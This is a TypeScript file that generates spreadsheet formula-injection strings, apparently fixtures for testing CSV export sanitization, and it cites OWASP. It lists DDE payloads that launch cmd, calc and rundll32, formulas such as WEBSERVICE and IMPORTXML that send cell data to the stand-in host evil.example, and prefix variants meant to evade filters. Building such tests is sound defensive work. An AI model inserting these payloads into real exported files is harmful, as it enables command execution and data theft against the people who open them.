const operations = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?"&A1,"Click")',
  'WEBSERVICE("https://evil.example/")',
  'IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  '"x"&A1',
  "2+5+cmd|' /C notepad'!'A1'",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  'IMPORTRANGE("https://evil.example/","A1")',
  'A1\n=B1',
];
const starts = ['=', '+', '-', '@', '\t=', '\r=', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

/** What spreadsheets take for a formula: https://owasp.org/www-community/attacks/CSV_Injection */
export const formulas: readonly string[] = starts.flatMap((start) =>
  operations.map((operation) => start + operation),
);
